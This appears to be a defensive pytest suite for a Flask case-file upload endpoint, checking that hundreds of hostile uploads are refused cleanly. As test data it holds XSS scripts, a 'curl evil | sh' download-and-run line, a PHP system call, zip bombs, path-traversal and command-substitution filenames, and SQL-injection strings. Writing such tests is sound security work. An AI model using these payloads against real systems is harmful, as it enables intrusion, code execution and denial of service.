"""Three hundred bad uploads and more: no fault of the program, nothing half saved, no file left behind, no word lost."""

import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from asb_cases.adapters.storage import Storage
from asb_cases.domain.permissions import Role
from asb_cases.extensions import Base, db
from tests import factories as make
from tests.support import sample_files as sample
from tests.support.page_client import PageClient
from tests.support.sample_files import GOOD
from tests.support.signed_in import client_with_role

TYPED = "Seen from the kitchen window – “bins” & rats"
LIMIT = 60_000
#: What a visit leaves behind, whatever it brings.
TRACES = frozenset({"consultations", "user_sessions"})
WEB_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
#: Unpacks to a thousand times what it is packed.
ZEROS = b"\x00" * 25_000_000
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120


@dataclass(frozen=True)
class Upload:
    """One upload: what it is called here, its files, and what else is sent. `kept`: it is a good file with a bad name,
    which is kept under a good one."""

    title: str
    files: list[tuple[str, bytes]]
    fields: dict[str, Any] = field(default_factory=dict)
    kept: bool = False


def one(title: str, name: str, content: bytes, *, kept: bool = False) -> Upload:
    return Upload(f"{title}: {name[:40]!r}", [(name, content)], kept=kept)


def wrong_endings() -> Iterator[Upload]:
    """Good files that say they are something else."""
    endings = ("jpg", "png", "pdf", "docx", "mp3", "mp4", "txt", "eml", "gif", "exe", "html")
    for name, content in GOOD.items():
        ending = name.rpartition(".")[2].lower()
        for other in endings:
            same = {ending, other} <= {"jpg", "jpeg"} or (ending == "csv" and other == "txt") or ending == other
            mail_as_text = content == sample.eml() and other in {"txt", "eml"}
            if not same and not mail_as_text:
                yield one("wrong ending", f"{name.rpartition('.')[0]}.{other}", content)


def dressed_up() -> Iterator[Upload]:
    """Programs, pages, drawings, scripts and archives under every ending that is kept."""
    for title, content in (
        ("program", PROGRAM),
        ("page", WEB_PAGE),
        ("drawing", SVG),
        ("script", b"#!/bin/sh\ncurl evil | sh\n"),
        ("archive", sample.packed({"a.exe": PROGRAM})),
    ):
        for ending in (
            "jpg",
            "png",
            "pdf",
            "docx",
            "xlsx",
            "odt",
            "mp3",
            "mp4",
            "txt",
            "csv",
            "eml",
            "msg",
            "heic",
            "gif",
        ):
            yield one(title, f"holiday.{ending}", content)


def under_their_own_names() -> Iterator[Upload]:
    for name, content in (
        ("setup.exe", PROGRAM),
        ("page.html", WEB_PAGE),
        ("page.htm", WEB_PAGE),
        ("page.xhtml", WEB_PAGE),
        ("logo.svg", SVG),
        ("run.js", b"alert(1)"),
        ("run.vbs", b"MsgBox 1"),
        ("run.ps1", b"Write-Host 1"),
        ("run.bat", b"@echo off"),
        ("run.sh", b"#!/bin/sh"),
        ("run.php", b"<?php echo 1;"),
        ("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 70),
        ("a.jar", sample.packed({"META-INF/MANIFEST.MF": b"x"})),
        ("a.apk", sample.packed({"classes.dex": b"dex\n035"})),
        ("a.zip", sample.packed({"a.txt": b"x"})),
        ("a.rar", b"Rar!\x1a\x07\x01\x00"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c"),
        ("a.tar", b"\x00" * 257 + b"ustar" + b"\x00" * 250),
        ("a.doc", sample.compound("WordDocument")),
        ("a.xls", sample.compound("Workbook")),
        ("a.docm", sample.docx(**{"word/vbaProject.bin": b"x"})),
        ("a.xlsm", sample.xlsx(**{"xl/vbaProject.bin": b"x"})),
        ("a.rtf", b"{\\rtf1 hello}"),
        ("a.xml", b"<?xml version='1.0'?><a/>"),
        ("a.wasm", b"\x00asm\x01\x00\x00\x00"),
        ("a.chm", b"ITSF\x03\x00\x00\x00"),
        ("noending", b"just words"),
        ("photo.jpg.exe", sample.jpeg()),
        ("photo.jpg ", PROGRAM),
        ("photo.exe.jpg", PROGRAM),
        ("a.bmp", b"BM" + b"\x00" * 60),
        ("a.tiff", b"II*\x00" + b"\x00" * 60),
        ("a.avi", sample.riff(b"AVI ", b"LIST")),
        ("a.avif", sample.film(b"avif")),
    ):
        yield one("own name", name, content)


def two_in_one() -> Iterator[Upload]:
    """A second file before, in or after the first."""
    archive = sample.packed({"evil.class": b"x"})
    for name in (
        "photo.jpg",
        "plan.png",
        "loop.gif",
        "letter.pdf",
        "drawing.webp",
        "noise.wav",
        "clip.mp4",
        "call.mp3",
    ):
        yield one("archive at the end", name, GOOD[name] + archive)
        yield one("page before", name, WEB_PAGE + GOOD[name])
        yield one("drawing before", name, SVG + GOOD[name])
        yield one("program before", name, PROGRAM + GOOD[name])
        yield one("text before", name, b"Dear all,\n" + GOOD[name])
        yield one("bytes before", name, b"\x00\x00" + GOOD[name])
    for words in (
        b"<script>alert(1)</script>",
        b"<?php system('id'); ?>",
        b"<html>",
        b"<svg/onload=alert(1)>",
        b"<iframe src=x>",
    ):
        yield one("words of a page in the EXIF", "photo.jpg", sample.jpeg(words))
        yield one("words of a page in a PDF", "letter.pdf", b"%PDF-1.7\n" + words + sample.pdf()[9:])
    yield one("bytes after", "statement.docx", sample.docx() + WEB_PAGE)
    yield one("bytes before", "statement.docx", WEB_PAGE + sample.docx())


def cut_off() -> Iterator[Upload]:
    """Files without their end, or with a hole in it."""
    for name, content in GOOD.items():
        if name.endswith((".txt", ".csv", ".eml", ".mp3")):
            continue  # any beginning of a text, and any whole frames of sound, are whole by themselves
        for share in (0.05, 0.3, 0.6, 0.9):
            yield one(f"cut off at {share}", name, content[: max(4, int(len(content) * share))])
    yield one("cut off in the picture", "photo.jpg", sample.jpeg()[:-2])
    yield one("tag without sound", "call.mp3", b"ID3\x04\x00\x00\x00\x00\x7f\x7f")


def archives() -> Iterator[Upload]:
    """Documents that burst, are locked, run programs or lead out of their folder."""
    yield one("bomb", "a.docx", sample.docx(**{"word/a.bin": ZEROS}))
    yield one("bomb in two parts", "a.xlsx", sample.xlsx(**{"xl/a.bin": ZEROS[::2], "xl/b.bin": ZEROS[::2]}))
    yield one("bomb", "a.odt", sample.open_document(**{"Pictures/a.png": ZEROS}))
    yield one("parts over each other", "a.docx", over_each_other())
    for name in ("../x", "../../x", "/etc/passwd", "a/../../x", "C:\\x", "a\\b", "word/../../x"):
        yield one(f"leads out by {name}", "a.docx", sample.docx(**{name: b"x"}))
    for name in ("word/vbaProject.bin", "xl/vbaProject.bin", "VBAPROJECT.BIN"):
        yield one(f"macros in {name}", "a.docx", sample.docx(**{name: b"x"}))
        yield one(f"macros in {name}", "a.xlsx", sample.xlsx(**{name: b"x"}))
    for name in ("Basic/script-lc.xml", "Scripts/python/a.py"):
        yield one(f"macros in {name}", "a.odt", sample.open_document(**{name: b"x"}))
        yield one(f"macros in {name}", "a.ods", sample.open_document("spreadsheet", **{name: b"x"}))
    yield one("locked", "a.odt", sample.open_document(manifest=b"<manifest:encryption-data/>"))
    yield one("locked", "a.ods", sample.open_document("spreadsheet", manifest=b"<manifest:encryption-data/>"))
    yield one("locked", "a.docx", sample.compound("EncryptedPackage", "EncryptionInfo"))
    yield one("locked", "a.zip", sample.locked())
    yield one("locked", "a.docx", sample.locked())
    yield one("named twice", "a.docx", named_twice())
    yield one("empty archive", "a.docx", b"PK\x05\x06" + b"\x00" * 18)
    yield one("other kind", "a.docx", sample.open_document("presentation"))
    yield one(
        "no main part", "a.docx", sample.packed({"[Content_Types].xml": sample.types("wordprocessingml.document")})
    )
    yield one("types only", "a.xlsx", sample.packed({"[Content_Types].xml": b""}))


def over_each_other() -> bytes:
    content = bytearray(sample.docx())
    second = content.find(b"PK\x01\x02", content.find(b"PK\x01\x02") + 4)
    content[second + 42 : second + 46] = (1).to_bytes(4, "little")
    return bytes(content)


def named_twice() -> bytes:
    return sample.docx(**{"word/documenT.xml": b"x"}).replace(b"word/documenT.xml", b"word/document.xml")


def sizes() -> Iterator[Upload]:
    for ending in ("jpg", "pdf", "txt", "docx", "mp4"):
        yield one("empty", f"a.{ending}", b"")
    yield one("one byte over", "a.txt", b"a" * (LIMIT + 1))
    yield one("one byte over", "a.jpg", sample.jpeg(scan=b"\x01" * (LIMIT + 1 - len(sample.jpeg(scan=b"")))))
    yield one("twice as much", "a.txt", b"a" * (2 * LIMIT))
    yield Upload("21 files", [(f"{number}.txt", b"%d" % number) for number in range(21)])
    yield Upload("good and bad", [("good.txt", b"good"), ("bad.exe", PROGRAM)])
    yield Upload("bad and good", [("bad.exe", PROGRAM), ("good.txt", b"good")])
    yield Upload("nothing", [])


def answers() -> Iterator[Upload]:
    """Good files with answers that cannot be used."""
    good = [("a.txt", b"words")]
    for title, fields in (
        ("no such record", {"belongs_to": "complaint-999999"}),
        ("no such kind", {"belongs_to": "user-1"}),
        ("no number", {"belongs_to": "complaint-"}),
        ("huge number", {"belongs_to": "complaint-" + "9" * 30}),
        ("another day", {"taken_on-day": "32", "taken_on-month": "1", "taken_on-year": "2026"}),
        ("a day to come", {"taken_on-day": "1", "taken_on-month": "1", "taken_on-year": "2099"}),
        ("a time without a day", {"taken_time": "11:40pm"}),
        ("no time", {"taken_time": "25:99"}),
        ("no such mark", {"marks": "nonsense"}),
        ("too long a name", {"taken_by": "x" * 500}),
    ):
        yield Upload(title, good, fields)


def names() -> Iterator[Upload]:
    """Good files under names that are meant to do harm: kept, under a name that cannot."""
    for name in (
        "../../../../etc/cron.d/x.txt",
        "..\\..\\windows\\system32\\x.txt",
        "/etc/passwd.txt",
        "C:\\autoexec.txt",
        "\\\\server\\share\\x.txt",
        "....//....//x.txt",
        "%2e%2e%2fx.txt",
        "CON.txt",
        "con.txt",
        "PRN.txt",
        "AUX.txt",
        "NUL.txt",
        "COM1.txt",
        "LPT9.txt",
        "CON .txt",
        "a\x00.exe.txt",
        "x" * 300 + ".txt",
        "é" * 200 + ".txt",
        "😀" * 100 + ".txt",
        "photo\u202etxt.exe.txt",
        "\u2066hidden\u2069.txt",
        "\ufeffbom.txt",
        "zero\u200bwidth.txt",
        "'; DROP TABLE attachments; --.txt",
        "<img src=x onerror=alert(1)>.txt",
        "{{7*7}}.txt",
        "a\tb.txt",
        "%22quoted%22.txt",
        "semi;colon.txt",
        "percent%s%n.txt",
        "-rf.txt",
        "~root.txt",
        "$(id).txt",
        "`id`.txt",
        "|id.txt",
        "trailing dots....txt",
        ". .txt",
    ):
        yield one("name", name, ascii(name).encode(), kept=True)


GROUPS = (wrong_endings, dressed_up, under_their_own_names, two_in_one, cut_off, archives, sizes, answers, names)
UPLOADS = [upload for group in GROUPS for upload in group()]


def test_there_are_three_hundred_of_them() -> None:
    assert len(UPLOADS) >= 300
    assert len({upload.title + str(upload.files) + str(upload.fields) for upload in UPLOADS}) == len(UPLOADS)


@dataclass(frozen=True)
class Desk:
    """An officer with a case in front of them."""

    app: Flask
    client: PageClient
    address: str

    def rows(self) -> dict[str, list[tuple[Any, ...]]]:
        with self.app.app_context():
            return {
                table.name: [tuple(row) for row in db.session.execute(select(table))]
                for table in Base.metadata.sorted_tables
                if table.name not in TRACES
            }

    def kept(self) -> list[Path]:
        return sorted(path for path in Path(self.app.config["STORAGE_DIR"]).rglob("*") if path.is_file())


@pytest.fixture
def desk(app: Flask) -> Desk:
    app.config |= {"WTF_CSRF_ENABLED": False, "MAX_FILE_BYTES": LIMIT}
    with app.app_context():
        reference = make.make_case().reference
    return Desk(app, client_with_role(app, Role.OFFICER), f"/cases/{reference}/files/new")


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("group", GROUPS, ids=lambda group: group.__name__)
def test_no_bad_upload_leaves_anything_but_its_refusal(desk: Desk, group: Any) -> None:
    wrong = []
    untouched = desk.rows()
    for upload in group():
        if upload.kept:
            continue
        data = {
            "files": [(io.BytesIO(content), name) for name, content in upload.files],
            "description": TYPED,
            **upload.fields,
        }
        answer = desk.client.post(desk.address, data=data, content_type="multipart/form-data")
        if answer.status_code != 422:
            wrong.append(f"{upload.title}: {answer.status_code}")
        elif TYPED.replace("&", "&amp;") not in answer.text:
            wrong.append(f"{upload.title}: what was typed is lost")
        if desk.kept():
            wrong.append(f"{upload.title}: left {desk.kept()}")
            break
    assert wrong == []
    assert desk.rows() == untouched


@pytest.mark.engines("sqlite")
def test_a_bad_name_does_no_harm_to_a_good_file(desk: Desk) -> None:
    storage = Storage(desk.app.config["STORAGE_DIR"])
    wrong = []
    count = 0
    for upload in names():
        ((name, content),) = upload.files
        data = {"files": (io.BytesIO(content), name), "description": TYPED}
        answer = desk.client.post(desk.address, data=data, content_type="multipart/form-data")
        if answer.status_code != 302:
            wrong.append(f"{name!r}: {answer.status_code}")
        count += 1
    assert wrong == []
    assert len(list(storage.kept())) == count == len(desk.kept())
    assert all(path.is_relative_to(storage.folder) for path in desk.kept())
    for row in desk.rows()["attachments"]:
        assert not set(row[4]) & set('/\\<>:"|?*\x00'), row[4]
        assert row[4].isprintable()
        assert len(row[4].encode()) < 500
        assert desk.client.get(f"/files/{row[0]}/download").status_code == 200
    text = desk.client.get(desk.address.removesuffix("/new")).text
    assert "<img src=x" not in text


def body(*parts: bytes, boundary: bytes = b"XyZ") -> bytes:
    return b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts) + b"--" + boundary + b"--\r\n"


def file_part(name: bytes, content: bytes, field_name: bytes = b"files") -> bytes:
    head = b'Content-Disposition: form-data; name="' + field_name + b'"; filename="' + name + b'"\r\n'
    return head + b"Content-Type: application/octet-stream\r\n\r\n" + content


def text_part(name: bytes, content: bytes) -> bytes:
    return b'Content-Disposition: form-data; name="' + name + b'"\r\n\r\n' + content


GOOD_PART = file_part(b"a.txt", b"words")


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize(
    ("sent", "statuses"),
    [
        (body(*[text_part(b"k", b"1")] * 2000), {413}),
        (body(*[GOOD_PART] * 2000), {413}),
        (body(*[file_part(b"%d.txt" % number, b"%d" % number) for number in range(400)]), {422}),
        (body(text_part(b"description", b"x" * 3_000_000)), {413}),
        (body(GOOD_PART)[:-20], {400, 422}),
        (body(GOOD_PART)[:60], {400, 422}),
        (b"", {422}),
        (b"--XyZ--\r\n", {422}),
        (b"no boundary at all", {400, 422}),
        (body(file_part(b"", b"words")), {422}),
        (body(file_part(b"a.txt", b"")), {422}),
        (body(b"Content-Disposition: form-data\r\n\r\nx"), {400, 422}),
        (body(b"Content-Disposition: attachment; name=files\r\n\r\nx"), {400, 422}),
        (body(b"\r\n\r\nx"), {400, 422}),
        (body(text_part(b"files", b"words, not a file")), {422}),
        (body(text_part(b"belongs_to", b"case"), text_part(b"belongs_to", b"user-1")), {422}),
        (body(text_part(b"\xff\xfe", b"\xff\xfe\x00")), {422}),
    ],
    ids=range(17),
)
def test_a_crooked_request_is_answered(desk: Desk, sent: bytes, statuses: set[int]) -> None:
    untouched = desk.rows()
    answer = desk.client.post(desk.address, data=sent, content_type="multipart/form-data; boundary=XyZ")
    assert answer.status_code in statuses
    assert desk.rows() == untouched
    assert desk.kept() == []


@pytest.mark.engines("sqlite")
def test_a_request_over_the_limit_is_told_so(desk: Desk) -> None:
    desk.app.config["MAX_UPLOAD_BYTES"] = 5 * LIMIT
    over = body(*[file_part(b"%d.txt" % number, b"a" * LIMIT) for number in range(5)])
    answer = desk.client.post(desk.address, data=over, content_type="multipart/form-data; boundary=XyZ")
    assert answer.status_code == 413
    assert "Nothing was saved." in answer.text
    assert desk.kept() == []
    # Only where files are sent may a request be as large as that.
    desk.app.config |= {"MAX_CONTENT_LENGTH": LIMIT, "MAX_UPLOAD_BYTES": 50 * LIMIT}
    assert desk.client.post("/sign-out", data=over, content_type="multipart/form-data; boundary=XyZ").status_code == 413
    # ... and only by somebody who was ever signed in: of a stranger nothing is taken in.
    stranger = desk.app.test_client()
    assert stranger.post(desk.address, data=over, content_type="multipart/form-data; boundary=XyZ").status_code == 413
    assert (
        desk.client.post(desk.address, data=over, content_type="multipart/form-data; boundary=XyZ").status_code == 302
    )


@pytest.mark.engines("sqlite")
def test_a_sender_who_goes_away_half_way_leaves_nothing(desk: Desk) -> None:
    whole = body(file_part(b"a.txt", b"words" * 1000), text_part(b"description", TYPED.encode()))
    untouched = desk.rows()
    for share in (0.1, 0.5, 0.9, 0.999):
        part = whole[: int(len(whole) * share)]
        answer = desk.client.post(
            desk.address,
            input_stream=io.BytesIO(part),
            content_type="multipart/form-data; boundary=XyZ",
            content_length=len(whole),
        )
        assert answer.status_code in {400, 422}
    assert desk.rows() == untouched
    assert desk.kept() == []


@pytest.mark.engines("sqlite")
def test_the_same_field_twice_takes_every_file_once(desk: Desk) -> None:
    sent = body(GOOD_PART, GOOD_PART, file_part(b"b.txt", b"others"), file_part(b"c.txt", b"photo?", b"photo"))
    answer = desk.client.post(desk.address, data=sent, content_type="multipart/form-data; boundary=XyZ")
    assert answer.status_code == 302
    assert len(desk.kept()) == 3


def test_samples_are_what_they_should_be() -> None:
    """The archive that is said to burst really would."""
    burst = sample.docx(**{"word/a.bin": ZEROS})
    with zipfile.ZipFile(io.BytesIO(burst)) as archive:
        assert sum(part.file_size for part in archive.infolist()) > 500 * len(burst)
